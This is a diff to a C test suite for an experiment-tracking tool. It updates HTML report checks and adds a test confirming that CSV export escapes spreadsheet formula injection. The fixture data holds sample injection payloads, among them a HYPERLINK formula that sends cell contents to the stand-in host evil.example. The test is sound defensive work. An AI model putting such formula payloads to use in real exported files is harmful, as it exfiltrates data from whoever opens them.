@@ -237,11 +237,10 @@ TEST(html_has_tables_figures_environment_options) {
   CHECK_STR_CONTAINS(p, "<td>1,2</td>");
   /* options: the differing keys, the same ones listed once */
   CHECK((p = strstr(html, "id=\"options\"")));
-  CHECK_STR_CONTAINS(p, "<th>evil</th>");
-  CHECK_STR_CONTAINS(p, "<th>algorithm</th>");
-  CHECK_STR_CONTAINS(p, "<td>ring</td>");
+  CHECK_STR_CONTAINS(p, "<span><code>evil</code>=");
+  CHECK_STR_CONTAINS(p, "<span><code>algorithm</code>=ring</span>");
   CHECK_STR_CONTAINS(p, "<code>lr</code> = <code>0.05</code>");
-  CHECK(!strstr(p, "<th>lr</th>"));
+  CHECK(!strstr(p, "<span><code>lr</code>="));
   free(html);
 }
 
@@ -251,7 +250,7 @@ TEST(report_of_several_experiments) {
   CHECK(html);
   CHECK_STR_CONTAINS(html, "Experiments x&lt;script&gt;");
   CHECK_STR_CONTAINS(html, "(id 1, 2)");
-  CHECK_STR_CONTAINS(html, "<td>plain: local</td>");
+  CHECK_STR_CONTAINS(html, "<td class=\"lab\">plain: local</td>");
   free(html);
   snprintf(dir, sizeof dir, "%s/multi", tmpdir);
   CHECK((md = file_in(dir, "summary.md")));
@@ -442,6 +441,39 @@ TEST(export_csv_and_json) {
   CHECK_EQ_INT(run_cmd(sg_cmd_export, &out, "export", "nosuch", "--format", "csv", "--db",
                        db_path, NULL), 1);
   CHECK_STR_CONTAINS(out, "no experiment named 'nosuch'");
+  free(out);
+}
+
+/* CSV injection: text cells starting with = + - @ TAB CR are written with
+ * a leading ' (a spreadsheet then shows text, not a formula); numbers,
+ * negative ones included, stay numbers. */
+TEST(export_csv_neutralises_formula_cells) {
+  char path[512], *out = NULL;
+  sqlite3 *db = NULL;
+  setup();
+  snprintf(path, sizeof path, "%s/csvinj.db", tmpdir);
+  CHECK(make_fixture(path) == 0);
+  CHECK(sqlite3_open(path, &db) == SQLITE_OK);
+  CHECK(sqlf(db, "UPDATE runs SET error = %Q WHERE id = 1",
+             "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")") == 0);
+  CHECK(sqlf(db, "UPDATE runs SET error = '+1+2', transport = '-3' WHERE id = 2") == 0);
+  CHECK(sqlf(db, "UPDATE runs SET error = '@SUM(A1)', launcher = char(9) || '=1',"
+                 " status = char(13) || '=2' WHERE id = 3") == 0);
+  CHECK(sqlf(db, "UPDATE evals SET test_loss = -0.5 WHERE run_id = 1 AND step = 5") == 0);
+  sqlite3_close(db);
+  CHECK_EQ_INT(run_cmd(sg_cmd_export, &out, "export", "1", "--format", "csv", "--db", path,
+                       NULL), 0);
+  CHECK_STR_CONTAINS(out, ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",");
+  CHECK_STR_CONTAINS(out, ",\"'+1+2\",");
+  CHECK_STR_CONTAINS(out, ",\"'-3\",");
+  CHECK_STR_CONTAINS(out, ",\"'@SUM(A1)\",");
+  CHECK_STR_CONTAINS(out, ",\"'\t=1\",");
+  CHECK_STR_CONTAINS(out, ",\"'\r=2\",");
+  CHECK(!strstr(out, ",=") && !strstr(out, ",+") && !strstr(out, ",@") && !strstr(out, ",-3"));
+  free(out);
+  CHECK_EQ_INT(run_cmd(sg_cmd_export, &out, "export", "1", "--format", "csv", "--table",
+                       "evals", "--db", path, NULL), 0);
+  CHECK_STR_CONTAINS(out, "\r\n1,5,0,0.5,100,1,-0.5,0.6\r\n"); /* a number stays a number */
   free(out);
 }
 
